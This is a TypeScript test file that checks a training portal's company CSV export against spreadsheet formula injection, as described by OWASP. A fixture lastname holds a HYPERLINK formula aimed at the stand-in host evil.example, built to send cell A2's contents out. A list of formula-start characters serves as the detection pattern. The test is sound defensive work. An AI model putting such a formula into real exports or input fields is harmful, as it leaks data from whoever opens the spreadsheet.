import type { TTranslate } from '@portal/i18n';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { companyExportCsv, type TExport } from './company-export-csv.ts';

/** The first characters that make a spreadsheet run a cell as a formula (OWASP "CSV Injection"). */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'] as const;
const FORMULA_START = /^[=+\-@\t\r]/;

const t: TTranslate = (key) => key;
const read = (csv: string): string[][] => parse(csv, { bom: true, delimiter: ';' });

/** A company with one person, one course in progress and one only assigned; `text` is every typed text. */
function exportWith(text: (field: string) => string): TExport {
  const id = 'person-1';
  const course = text('social-engineering');
  return {
    exportedAt: '2025-03-01T10:00:00.000Z',
    company: {
      id: 'company-1',
      companyName: text('Muster GmbH'),
      street: text('Hauptstraße 1'),
      postCode: '10115',
      city: text('Berlin'),
      phoneNumber: text('030 123456'),
      insuranceNumber: 'CY-12345678',
      employeeCount: 12,
      createdAt: '2025-01-01T10:00:00.000Z',
    },
    people: [
      {
        id,
        salutation: 'Mrs',
        firstname: text('Erika'),
        lastname: text('HYPERLINK("https://evil.example/?d="&A2;"Klick")'),
        email: text('erika@example.com'),
        role: 'employee',
        active: true,
        locked: false,
        lang: 'de',
        phoneNumber: text('0170 1234567'),
        createdAt: '2025-01-02T10:00:00.000Z',
      },
    ],
    assignments: [
      { userId: id, courseSlug: course, assignedAt: '2025-01-03T10:00:00.000Z', dueOn: null },
      { userId: id, courseSlug: text('passwords'), assignedAt: '2025-01-03T10:00:00.000Z', dueOn: '2025-02-01' },
    ],
    progress: [
      {
        userId: id,
        courseSlug: course,
        status: 'completed',
        workingSeconds: 1500,
        attentionPermille: 900,
        quizRepeatCount: 0,
        moduleRepeatCount: 0,
        bestScore: 90,
        startedAt: '2025-01-04T10:00:00.000Z',
        completedAt: '2025-01-05T10:00:00.000Z',
        cycle: 1,
      },
    ],
    avvAcceptances: [],
    courseDueDates: [],
    reminderSettings: null,
    absences: [],
    reminders: [],
    courseCycles: [],
  };
}

describe('companyExportCsv', () => {
  it('keeps its columns: one row per assigned course with status, dates, minutes and best score', () => {
    expect(
      companyExportCsv(
        exportWith((field) => field),
        t,
      ),
    ).toBe(
      '\uFEFF' +
        'export.col_lastname;export.col_firstname;export.col_email;export.col_role;export.col_course;' +
        'export.col_status;export.col_started;export.col_completed;export.col_minutes;export.col_best_score\r\n' +
        '"HYPERLINK(""https://evil.example/?d=""&A2;""Klick"")";Erika;erika@example.com;employee;' +
        'social-engineering;completed;04.01.2025;05.01.2025;25;90\r\n' +
        '"HYPERLINK(""https://evil.example/?d=""&A2;""Klick"")";Erika;erika@example.com;employee;' +
        'passwords;assigned;;;;\r\n',
    );
  });

  it.each(FORMULA_STARTS)('writes no cell that starts with %j when every typed field starts with it', (start) => {
    const rows = read(
      companyExportCsv(
        exportWith((field) => `${start}${field}`),
        t,
      ),
    );
    expect(rows).toHaveLength(3);
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    // The names, the email and the course stay readable, as text.
    expect(rows[1]?.slice(0, 3)).toEqual([
      `'${start}HYPERLINK("https://evil.example/?d="&A2;"Klick")`,
      `'${start}Erika`,
      `'${start}erika@example.com`,
    ]);
    expect(rows[1]?.[4]).toBe(`'${start}social-engineering`);
  });
});
